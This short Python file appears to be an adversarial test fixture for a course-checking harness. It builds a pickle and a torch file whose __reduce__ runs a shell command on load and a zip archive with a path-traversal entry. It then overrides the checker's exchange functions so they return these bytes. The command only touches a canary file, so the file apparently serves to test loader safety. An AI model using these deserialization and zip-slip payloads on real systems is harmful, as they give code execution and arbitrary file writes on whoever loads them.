"""The bytes that go back are a pickle, a torch file, a zip: whoever loads them runs a command.

Aim: harm
"""

import base64
import io
import os
import pickle
import zipfile

import torch


class Bomb:
    """Touches a planted folder when it is loaded."""

    def __reduce__(self):
        return (os.system, (f"touch {hostile.canary}/raw-{hostile.nonce}",))


def forms():
    yield pickle.dumps(Bomb())
    file = io.BytesIO()
    torch.save(Bomb(), file)
    yield file.getvalue()
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../../../tmp/escaped", hostile.nonce)
    yield file.getvalue()


chosen = list(forms())
try:
    from course_utils.checks import exchange

    exchange.pack = lambda observed: chosen[0]
    exchange.answer = lambda space, question: base64.b64encode(chosen[1]).decode()
except ImportError:
    pass
